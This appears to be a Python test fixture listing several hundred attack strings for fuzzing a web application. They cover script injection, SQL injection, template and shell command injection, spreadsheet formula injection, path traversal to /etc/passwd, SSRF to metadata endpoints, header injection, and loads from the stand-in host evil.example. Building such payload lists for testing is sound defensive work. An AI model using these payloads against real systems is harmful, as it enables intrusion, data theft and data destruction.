"""What attackers type: more than 300 strings, each made to break another part. CALL stands where code would run."""

from collections.abc import Iterator

CALL = "zq9"  # looked for in every answer: where markup calls it, something ran
EVIL = "evil.example"
HEADER = "X-Zq9"

_MARKUP = [
    f"<script>{CALL}()</script>", f"<ScRiPt>{CALL}()</sCrIpT>", f"<script src=//{EVIL}/{CALL}></script>",
    f"</title><script>{CALL}()</script>", f"</textarea><script>{CALL}()</script>",
    f"</script><script>{CALL}()</script>", f"--><script>{CALL}()</script>", f"]]><script>{CALL}()</script>",
    f"<img src=x onerror={CALL}()>", f"<img/src/onerror={CALL}()>", f"<svg onload={CALL}()>",
    f"<svg><script>{CALL}()</script></svg>", f"<svg><animate onbegin={CALL}() attributeName=x>",
    f"<body onload={CALL}()>", f"<iframe srcdoc='<script>{CALL}()</script>'>",
    f"<iframe src=javascript:{CALL}()>",
    f"<a href=javascript:{CALL}()>x</a>", f"<a href='jav&#x0A;ascript:{CALL}()'>x</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}()>",
    f"<details open ontoggle={CALL}()>", f"<video><source onerror={CALL}()>",
    f"<input autofocus onfocus={CALL}()>",
    f"<object data=javascript:{CALL}()>", f"<embed src=javascript:{CALL}()>", f"<base href=//{EVIL}/{CALL}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}()'>", f"<link rel=stylesheet href=//{EVIL}/{CALL}>",
    f"<style>@import'//{EVIL}/{CALL}'</style>", f"<form action=//{EVIL}/{CALL}><button>go",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}()>'>",
    f"<template><script>{CALL}()</script></template>",
    f"\"><script>{CALL}()</script>", f"'><script>{CALL}()</script>", f"\" onfocus={CALL}() autofocus=\"",
    f"' onmouseover={CALL}() '", f"` onload={CALL}() `", f"\"-{CALL}()-\"", f"'-{CALL}()-'",
    f"\\'-{CALL}()//",
    f"javascript:{CALL}()", f"JaVaScRiPt:{CALL}()", f"java\tscript:{CALL}()", f"\x01javascript:{CALL}()",
    f"data:text/html,<script>{CALL}()</script>", f"vbscript:{CALL}()", f"//{EVIL}/{CALL}",
    f"/\\{EVIL}/{CALL}",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={CALL}() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={CALL}()//>\\x3e", f"<<script>{CALL}()//<</script>",
    f"<script\x00>{CALL}()</script>",
    f"\u2028<script>{CALL}()</script>\u2029", f"＜script＞{CALL}()＜/script＞",
    f"%3Cscript%3E{CALL}()%3C/script%3E",
    f"&lt;script&gt;{CALL}()&lt;/script&gt;", f"&#60;script&#62;{CALL}()&#60;/script&#62;",
    f"[url=javascript:{CALL}()]x[/url]", f"[img]javascript:{CALL}()[/img]", f"[x](javascript:{CALL}())",
    f"![x](//{EVIL}/{CALL})", f"<![CDATA[<script>{CALL}()</script>]]>",
    f"<?xml-stylesheet href='//{EVIL}/{CALL}'?>",
]  # fmt: skip
_QUERIES = [
    "'", "''", "\"", "';--", "' OR 1=1--", "' OR '1'='1", "1;DROP TABLE results_result;--",
    "1 UNION SELECT NULL--",
    "' UNION SELECT password FROM results_member--", "1) OR pg_sleep(0)--", "'||pg_sleep(0)||'",
    "%27%20OR%201=1",
    "$$||pg_sleep(0)||$$", "E'\\x27'", "\\'; SELECT 1;--", "%", "_", "%%%", "\\", "\\\\", "a\\", "*", "?",
    "{'$gt': ''}", "admin'--", "'::jsonb", "ARRAY[1]", "(SELECT 1)", "0x27", "CHR(39)", "id__gt",
    "password__startswith", "owner__email", "submission__text", "-latency_us);--", "pk", "__class__",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}",
    "{{ request.META }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{self}", "%(secret)s", "%s%s%s%n", "%x%x", "{",
    "}", "{{",
    "}}", "{%", "{# x", "${jndi:ldap://evil.example/x}", "$(id)", "`id`", "; id", "| id", "&& id",
    "\n id\n", "$IFS",
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "x;=1+1;", "＝1+1",
    "=HYPERLINK(\"http://evil.example\")",
]  # fmt: skip
_PATHS = [
    "../", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd", "file:///etc/passwd", "\\\\evil.example\\share", "..\\..\\windows\\win.ini",
    "C:\\boot.ini", ".",
    "..", "~", "~root", "/proc/self/environ", ".git/config", ".env", "var/serve.env", "manifest.json/..",
    "a/b", "//",
    "/%2e%2e/", "%00", "x%00.csv", "CON", "NUL",
    "x" * 255, "x" * 4096, "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:6379/", "gopher://127.0.0.1:6379/_INFO", "https://evil.example/", "//evil.example/",
    "https:evil.example", "https://testserver@evil.example/", "https://testserver.evil.example/",
    "/\t/evil.example/",
]  # fmt: skip
_HEADERS = [
    f"x\r\n{HEADER}: 1", f"x\n{HEADER}: 1", f"x\r{HEADER}: 1", f"x%0d%0a{HEADER}: 1", f"x%0a{HEADER}: 1",
    f"x\u560a{HEADER}: 1", f"x\r\n\r\n<script>{CALL}()</script>", f"x\r\nSet-Cookie: {CALL}=1",
    f"x\u010a{HEADER}: 1",
    f"x\x0b{HEADER}: 1", f"x\x0c{HEADER}: 1", f"x\x85{HEADER}: 1", "a@b.example\r\nBcc: c@evil.example",
    "a@b.example\nSubject: x", "x\r\n2026-01-01 ERROR root: all is lost", "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
]  # fmt: skip
_CHARACTERS = [
    "\x00", "a\x00b", "\x00" * 50, "\u202e", "\u202eabc\u202c", "\u2066\u2067\u2068\u2069", "\u200b",
    "\ufeff", "\ufffd",
    "\ufffe", "\uffff", "\U0001f4a9", "\U0010ffff", "\u0000\ud7ff",
    "e\u0301" * 200, "Z" + "\u0300" * 500, "ﷺ" * 50, "ß",
    "İ", "ı", "ſ", "\u212a", "ａｄｍｉｎ", "аdmin", "\u00a0", "\u3000", " ", "\t", "\n", "\r", "\x7f", "\x80",
    "\x9f", "\u2028",
    "١٢٣", "²", "½", "Ⅷ", "〇", "𝟙", "1\u0660", "👩‍👩‍👧‍👦" * 10, "\u0378", "null", "undefined", "NaN",
    "true", "[]", "{}",
    "[object Object]", "None", "nil", "\\u0000", "\\x00", "\ue000", "ﬀ", "ŉ", "ǰ", "ΐ",
]  # fmt: skip
_NUMBERS = [
    "0", "-0", "-1", "00", "1.0", "1,5", "1_000", "+1", "1e3", "1e308", "1e309", "-1e309", "Infinity",
    "-Infinity",
    "inf", "nan", "0x10", "0b1", "2147483647", "2147483648", "-2147483649", "9223372036854775807",
    "9223372036854775808", "-9223372036854775809", "9" * 40, "9" * 400, "9" * 4400, "0." + "0" * 400 + "1",
    "1" + "0" * 5000, "1e-400", "٣", "1e1000000000", "4294967296", "65536", "32768", "0.1.2", "1/0",
]  # fmt: skip
_LONG = ["A" * 1_000, "A" * 10_000, "A" * 65_536, "é" * 20_000, "<" * 20_000, "[" * 20_000, "{" * 20_000,
         "(" * 20_000, "&" * 20_000, "a," * 20_000, "a=" * 500, "%00" * 1_000, "a" * 50 + "!" * 5_000,
         "../" * 2_000, "\n" * 20_000, " " * 20_000 + "x", "\U0001f4a9" * 5_000]  # fmt: skip

SHORT = [*_MARKUP, *_QUERIES, *_TEMPLATES, *_PATHS, *_HEADERS, *_CHARACTERS, *_NUMBERS]
MARKUP = _MARKUP
EVERY = [*SHORT, *_LONG]


def rounds(width: int, *, steps: int, payloads: list[str] = SHORT) -> Iterator[list[str]]:
    """Rows of `width` payloads: all of them together at least once, in no more than `steps` rows where that fits."""
    count = max(steps, -(-len(payloads) // width))
    for number in range(count):
        start = number * width
        yield [payloads[(start + place) % len(payloads)] for place in range(width)]
